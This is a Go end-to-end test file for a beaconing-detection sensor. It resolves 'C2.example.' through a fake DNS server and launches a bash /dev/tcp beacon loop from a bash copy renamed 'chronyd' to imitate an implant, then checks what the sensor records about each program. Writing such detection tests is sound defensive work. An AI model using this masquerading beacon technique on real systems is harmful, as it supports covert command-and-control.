package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/beaconwatch/beaconwatch/test/need"
)

// nameServer answers every question for an address with public4, at 10.9.0.2 of the outside.
func nameServer(t *testing.T, outside *namespace) {
	var at net.PacketConn
	var err error
	outside.do(t, func() { at, err = net.ListenPacket("udp4", "10.9.0.2:53") })
	require.NoError(t, err)
	t.Cleanup(func() { at.Close() })
	go func() {
		for b := make([]byte, 1500); ; {
			n, from, err := at.ReadFrom(b)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(b[:n]) != nil || len(m.Questions) != 1 {
				continue
			}
			m.Response = true
			m.Answers = []dnsmessage.Resource{{
				Header: dnsmessage.ResourceHeader{Name: m.Questions[0].Name, Class: dnsmessage.ClassINET, TTL: 60},
				Body:   &dnsmessage.AResource{A: netip.MustParseAddr(public4).As4()}}}
			if answer, err := m.Pack(); err == nil {
				_, _ = at.WriteTo(answer, from)
			}
		}
	}()
}

// lookUp asks the name server for an address, as a resolver of the host would.
func lookUp(t *testing.T, host *namespace, name string) {
	var c net.Conn
	var err error
	host.do(t, func() { c, err = net.Dial("udp4", "10.9.0.2:53") })
	require.NoError(t, err)
	defer c.Close()
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 4711, RecursionDesired: true}, Questions: []dnsmessage.Question{
		{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
	question, err := m.Pack()
	require.NoError(t, err)
	require.NoError(t, c.SetDeadline(time.Now().Add(patience)))
	_, err = c.Write(question)
	require.NoError(t, err)
	_, err = c.Read(make([]byte, 1500))
	require.NoError(t, err)
}

// resolvingBy starts a sensor that finds the name server in its /etc/resolv.conf, in a mount namespace of its own.
func resolvingBy(t *testing.T, where *namespace, dir, server string, args ...string) *sensor {
	conf := filepath.Join(dir, "resolv.conf")
	require.NoError(t, os.WriteFile(conf, []byte("nameserver "+server+"\n"), 0o644))
	script := `mount --bind "$1" /etc/resolv.conf && shift && exec "$@"`
	line := append([]string{"--mount", "--propagation", "private", "sh", "-c", script, "sh", conf, beaconwatch()}, placeIn(dir)...)
	s := &sensor{child: launch(t, where, exec.Command("unshare", append(line, args...)...)), dir: dir, socket: filepath.Join(dir, "sock")}
	s.attach(t)
	return s
}

// TestWhatIsFoundOutAboutAProgram: package, digest, parents and the name of the destination stand in the row of a packaged
// program of short-lived processes, and of one that belongs to no package.
func TestWhatIsFoundOutAboutAProgram(t *testing.T) {
	t.Parallel()
	host, outside := network(t)
	nameServer(t, outside)
	address := sink(t, outside, public4)
	s := resolvingBy(t, host, room(t), "10.9.0.2", attentive)
	require.EventuallyWithT(t, func(c *assert.CollectT) {
		require.Equal(c, "on", one(c, s, "SELECT dns_names FROM beacon_sensor_status")["dns_names"])
	}, patience, 20*time.Millisecond)
	lookUp(t, host, "C2.example.")

	implant := filepath.Join(s.dir, "chronyd")
	copyFile(t, "/bin/bash", implant)
	// each beat is a process of its own, as from cron
	beats := `for i in $(seq 60); do $0 -c 'exec 3<>/dev/tcp/` + strings.Replace(address, ":", "/", 1) + ` && echo beat >&3; read -t 0.2 -u 3; :'; sleep 0.3; done`
	for _, program := range []string{"/bin/bash", implant} {
		launch(t, host, exec.Command(program, "-c", beats, program))
	}
	bash, err := filepath.EvalSymlinks("/bin/bash")
	require.NoError(t, err)
	version, err := exec.Command("dpkg-query", "-W", "-f", "${Version}", "bash").Output()
	if err != nil {
		need.Skip(t, "no dpkg to compare with: %v", err)
	}
	for path, want := range map[string]map[string]string{
		bash:    {"package_name": "bash", "package_version": string(version)},
		implant: {"package_name": "", "package_version": ""},
	} {
		want["sha256"], want["remote_hostname"], want["remote_hostname_source"] = digest(t, path), "c2.example", "dns"
		want["username"], want["parent_path"], want["remote_address"] = "root", path, public4
		sql := "SELECT package_name, package_version, sha256, remote_hostname, remote_hostname_source, username, parent_path, " +
			"remote_address FROM beacon_candidates WHERE scope = 'destination' AND path = " + quoted(path)
		require.EventuallyWithT(t, func(c *assert.CollectT) {
			require.Equal(c, want, one(c, s, sql), "%s at %s", path, address)
		}, 2*patience, 100*time.Millisecond)
	}
	require.Equal(t, 0, s.stop(t))
	kept, err := os.ReadFile(filepath.Join(s.dir, "state", "first-seen"))
	require.NoError(t, err)
	require.Contains(t, string(kept), implant)
	require.Contains(t, string(kept), address)
}

// TestDNSNamesOff: nobody listens.
func TestDNSNamesOff(t *testing.T) {
	t.Parallel()
	s := newSensor(t, quiet(t), "--dns_names=off")
	require.Equal(t, "off", one(t, s, "SELECT dns_names FROM beacon_sensor_status")["dns_names"])
	links, err := filepath.Glob(fmt.Sprintf("/proc/%d/net/packet", s.pid()))
	require.NoError(t, err)
	for _, l := range links {
		text, err := os.ReadFile(l)
		require.NoError(t, err)
		require.Len(t, strings.Split(strings.TrimSpace(string(text)), "\n"), 1, "no packet socket in its namespace: %s", text)
	}
}

func copyFile(t *testing.T, from, to string) {
	in, err := os.Open(from)
	require.NoError(t, err)
	defer in.Close()
	out, err := os.OpenFile(to, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o755)
	require.NoError(t, err)
	_, err = io.Copy(out, in)
	require.NoError(t, err)
	require.NoError(t, out.Close())
}

func digest(t *testing.T, path string) string {
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
